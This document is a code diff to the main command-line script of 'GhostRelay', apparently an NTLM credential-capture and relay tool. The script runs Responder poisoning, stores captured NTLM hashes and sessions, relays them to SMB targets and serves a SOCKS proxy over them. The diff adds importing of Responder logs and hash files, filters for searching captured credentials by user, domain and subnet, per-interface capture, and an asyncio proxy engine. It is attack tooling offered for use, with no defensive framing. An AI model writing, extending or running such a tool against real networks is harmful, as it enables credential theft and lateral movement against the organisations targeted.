@@ -9,13 +9,18 @@ import time
 
 from config import CONFIG
 from socks_proxy import GhostRelaySocksServer
+from socks_async import AsyncSocksServer
 from sessions import SESSION_STORE, NTLMSession
 from responder_manager import ResponderManager
+from importer import import_paths
 from relay_smb import list_relayable_targets, relay_ntlm_to_target, SMBRelayTarget
 
 
 responder = ResponderManager()
 
+# SOCKS server while --proxy / --relay is serving
+proxy_server = None
+
 
 def setup_logger(cfg):
     logger = logging.getLogger("ghostrelay")
@@ -46,8 +51,24 @@ def parse_args():
     parser.add_argument("--port", "-p", type=int, default=CONFIG.listen_port)
 
     parser.add_argument("--list-sessions", action="store_true")
+    parser.add_argument("--count-sessions", action="store_true")
     parser.add_argument("--details", type=int)
     parser.add_argument("--clear-sessions", action="store_true")
+    parser.add_argument("--import", dest="import_paths", nargs="+", metavar="PATH",
+                        help="Import Responder logs, hash files and sessions.json files "
+                             "(directories are searched for *.log, *.txt, *.json)")
+
+    # Filters for --list-sessions / --count-sessions
+    parser.add_argument("--user", help="Only sessions for this username")
+    parser.add_argument("--domain", help="Only sessions for this domain")
+    parser.add_argument("--user-prefix", help="Only sessions whose username starts with this")
+    parser.add_argument("--source-ip", help="Only sessions from this client IP")
+    parser.add_argument("--subnet", help="Only sessions from this network, e.g. 10.0.0.0/24")
+    parser.add_argument("--hash-type", help="Only sessions of this hash type, e.g. NetNTLMv2")
+    parser.add_argument("--since", type=float, help="Only sessions created at/after this unix time")
+    parser.add_argument("--until", type=float, help="Only sessions created before this unix time")
+    parser.add_argument("--archived", action="store_true",
+                        help="With --list-sessions: search sessions evicted by retention")
 
     parser.add_argument("--relay-smb", action="store_true",
                         help="Use captured NTLM sessions to attempt SMB relay.")
@@ -58,11 +79,17 @@ def parse_args():
 
     # NEW MODES:
     parser.add_argument("--capture", action="store_true")
+    parser.add_argument("--interfaces", nargs="+",
+                        help="With --capture: run one Responder per interface, e.g. --interfaces eth0 eth1")
+    parser.add_argument("--ingest", choices=("stdout", "db"), default=CONFIG.responder.ingest,
+                        help="With --capture: read captures from Responder's output or from Responder.db")
     parser.add_argument("--relay", action="store_true")
     parser.add_argument("--stop-responder", action="store_true")
 
     # SOCKS-only
     parser.add_argument("--proxy", action="store_true")
+    parser.add_argument("--engine", choices=("threads", "asyncio"), default=CONFIG.socks_engine,
+                        help="SOCKS server engine for --proxy / --relay")
 
     parser.add_argument("--auto", action="store_true")
 
@@ -76,8 +103,31 @@ def _format_age(ts: float) -> str:
     return f"{int(delta // 3600)}h"
 
 
-def cmd_list_sessions():
-    sessions = SESSION_STORE.list_sessions()
+def _session_filters(args) -> dict:
+    filters = {
+        "username": args.user,
+        "username_prefix": args.user_prefix,
+        "domain": args.domain,
+        "source_ip": args.source_ip,
+        "cidr": args.subnet,
+        "hash_type": args.hash_type,
+        "since": args.since,
+        "until": args.until,
+    }
+    return {k: v for k, v in filters.items() if v is not None}
+
+
+def cmd_list_sessions(filters: dict, archived: bool = False):
+    try:
+        if archived:
+            sessions = SESSION_STORE.search_archive(**filters)
+        elif filters:
+            sessions = SESSION_STORE.search(**filters)
+        else:
+            sessions = SESSION_STORE.list_sessions()
+    except ValueError as e:
+        print(f"GhostRelay: {e}")
+        return
     if not sessions:
         print("GhostRelay: No NTLM sessions captured.")
         return
@@ -87,7 +137,7 @@ def cmd_list_sessions():
         age = _format_age(s.created_at)
         print(
             f"ID={s.id} [{mt}] age={age} src={s.source_ip} -> {s.dest_ip} "
-            f"dir={s.direction} size={len(s.raw_data)}"
+            f"dir={s.direction} size={s.raw_size} hits={s.hit_count}"
         )
 
 
@@ -103,7 +153,9 @@ def cmd_show_details(sid: int):
     print(f"Destination IP   : {s.dest_ip}")
     print(f"Direction        : {s.direction}")
     print(f"Note             : {s.note}")
-    print(f"Raw size         : {len(s.raw_data)} bytes")
+    print(f"Raw size         : {s.raw_size} bytes")
+    print(f"Hits             : {s.hit_count} (last seen {_format_age(s.last_seen)} ago)")
+    print(f"Distinct hashes  : {s.sample_count}")
     print()
     print("NTLM Metadata")
     print("-------------")
@@ -111,14 +163,25 @@ def cmd_show_details(sid: int):
     print(f"Username         : {s.username}")
     print(f"Domain           : {s.domain}")
     print(f"Workstation      : {s.workstation}")
+    print(f"Interface        : {s.interface or '-'}")
 
 
 def handle_exit(signum, frame):
+    global proxy_server
     print("\n[GhostRelay] Caught exit signal, stopping services...")
 
     if responder.running:
         responder.stop_responder()
 
+    if proxy_server is not None:
+        # start() returns once the server has stopped (and drained, for
+        # the asyncio engine); a second signal exits right away
+        srv, proxy_server = proxy_server, None
+        srv.stop()
+        return
+
+    SESSION_STORE.close()
+
     print("[GhostRelay] Exiting cleanly.")
     sys.exit(0)
 
@@ -127,6 +190,32 @@ signal.signal(signal.SIGINT, handle_exit)
 signal.signal(signal.SIGTERM, handle_exit)
 
 
+def cmd_import(paths: list):
+    try:
+        r = import_paths(paths, store=SESSION_STORE)
+    except FileNotFoundError as e:
+        print(f"GhostRelay: {e}")
+        return
+    SESSION_STORE.flush()
+
+    for path in r.skipped:
+        print(f"GhostRelay: Skipped {path}: not a GhostRelay sessions.json")
+    print(
+        f"GhostRelay: Imported {r.files} file(s), {r.bytes / 1e6:.1f} MB in {r.seconds:.1f}s: "
+        f"{r.captures} capture(s), {r.duplicates} repeat(s) dropped, "
+        f"{r.added} new session(s), {r.merged} merged into existing."
+    )
+
+
+def make_proxy(args, logger):
+    global proxy_server
+    if args.engine == "asyncio":
+        proxy_server = AsyncSocksServer(args.listen, args.port, logger)
+    else:
+        proxy_server = GhostRelaySocksServer(args.listen, args.port, logger)
+    return proxy_server
+
+
 def main():
     args = parse_args()
 
@@ -140,13 +229,21 @@ def main():
         return
 
     if args.list_sessions:
-        cmd_list_sessions()
+        cmd_list_sessions(_session_filters(args), archived=args.archived)
+        return
+
+    if args.count_sessions:
+        print(f"GhostRelay: {SESSION_STORE.count(**_session_filters(args))} session(s).")
         return
 
     if args.details is not None:
         cmd_show_details(args.details)
         return
 
+    if args.import_paths:
+        cmd_import(args.import_paths)
+        return
+
     if args.stop_responder:
         responder.stop_responder()
         return
@@ -178,21 +275,21 @@ def main():
     # Responder modes
     # -------------------------
     if args.capture:
-        responder.start_capture_mode()
+        responder.start_capture_mode(args.interfaces, args.ingest)
         print("[GhostRelay] Responder running. Press CTRL+C to stop.")
         while True: time.sleep(1)
 
     if args.relay:
         responder.start_relay_mode()
         logger = setup_logger(CONFIG)
-        srv = GhostRelaySocksServer(args.listen, args.port, logger)
+        srv = make_proxy(args, logger)
         print("[GhostRelay] Relay mode active. Poisoning + SOCKS rewriting.")
         srv.start()
         return
 
     if args.proxy:
         logger = setup_logger(CONFIG)
-        srv = GhostRelaySocksServer(args.listen, args.port, logger)
+        srv = make_proxy(args, logger)
         srv.start()
         return
 
@@ -209,6 +306,7 @@ def main():
     print("  --proxy")
     print("  --relay-smb")
     print("  --list-sessions")
+    print("  --count-sessions")
     print("  --details <id>")
     print("  --stop-responder")
 